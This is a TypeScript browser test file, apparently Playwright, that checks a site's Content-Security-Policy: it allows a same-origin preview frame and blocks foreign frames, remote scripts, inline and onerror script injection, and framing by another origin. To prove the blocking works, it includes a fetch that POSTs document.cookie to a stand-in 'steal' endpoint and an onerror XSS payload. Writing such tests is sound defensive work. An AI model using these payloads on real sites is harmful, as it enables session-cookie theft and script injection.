import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { test as base, describe, expect } from '../support/browser-fixtures.ts';

/*
 * The Content-Security-Policy as Chromium enforces it on the built site: the admin's same-origin
 * preview frame works; foreign frames, scripts, connections and injected inline script do not;
 * and another site cannot frame ours. (tests/server/security.test.ts checks the headers themselves.)
 */
/** Another origin (127.0.0.1 rather than localhost, another port) whose page tries to frame ours: its address. */
const test = base.extend('foreignUrl', { scope: 'file' }, async ({ server }, { onCleanup }) => {
  const foreign = http.createServer((_req, res) => {
    res.setHeader('content-type', 'text/html');
    res.end(`<!doctype html><title>Elsewhere</title><iframe id="victim" src="${server.url}/" width="800" height="600"></iframe>`);
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  onCleanup(async () => {
    // The worker's Chromium stays open with its keep-alive connections: end them, or close waits.
    foreign.closeAllConnections();
    await new Promise((resolve) => foreign.close(resolve));
  });
  return `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
});
const it = test;

describe('the Content-Security-Policy in the browser', () => {
  it('lets the site frame itself (the admin preview) and blocks foreign frames, scripts, connections and inline script', async ({ page, server }) => {
    await page.goto(server.url);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.evaluate(() => {
      const w = window as unknown as { violations: string[] };
      w.violations = [];
      document.addEventListener('securitypolicyviolation', (event) => w.violations.push(event.effectiveDirective));
    });

    // Same-origin frame: loads, and its document is the site's.
    const framedTitle = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const frame = document.createElement('iframe');
          frame.src = '/about?preview=true';
          frame.onload = () => setTimeout(() => resolve(frame.contentDocument?.querySelector('#root') ? 'site' : 'other'), 50);
          document.body.append(frame);
        }),
    );
    expect(framedTitle).toBe('site');

    const fetched = await page.evaluate(async () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://example.com/';
      document.body.append(frame);

      const inline = document.createElement('script');
      inline.textContent = 'window.injected = true';
      document.body.append(inline);

      const remote = document.createElement('script');
      remote.src = 'https://cdn.example.com/x.js';
      document.body.append(remote);

      const handler = document.createElement('div');
      handler.innerHTML = '<img src="/no-such-image.png" onerror="window.injected = true">';
      document.body.append(handler);

      return fetch('https://api.example.com/steal', { method: 'POST', body: document.cookie }).then(
        () => 'sent',
        () => 'blocked',
      );
    });
    expect(fetched).toBe('blocked');
    // Each attempt is reported as it is blocked (the frame and the image take a moment).
    const expected = ['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem'];
    await page.waitForFunction(
      (directives) => directives.every((directive) => (window as unknown as { violations: string[] }).violations.includes(directive)),
      expected,
      { timeout: 20_000 },
    );
    expect(await page.evaluate(() => (window as unknown as { injected?: boolean }).injected === true)).toBe(false);
  });

  it('does not let another site frame ours', async ({ page, server, foreignUrl }) => {
    const messages: string[] = [];
    page.on('console', (message) => messages.push(message.text()));
    await page.goto(foreignUrl);
    await page.waitForLoadState('load');
    await expect.poll(() => messages.join('\n')).toMatch(/frame-ancestors 'self'/);
    // Nothing of the site rendered in the frame.
    const frame = page.frames().find((candidate) => candidate.url().startsWith(server.url));
    const rendered = frame ? await frame.evaluate(() => document.querySelector('#root') !== null).catch(() => false) : false;
    expect(rendered).toBe(false);
  });
});
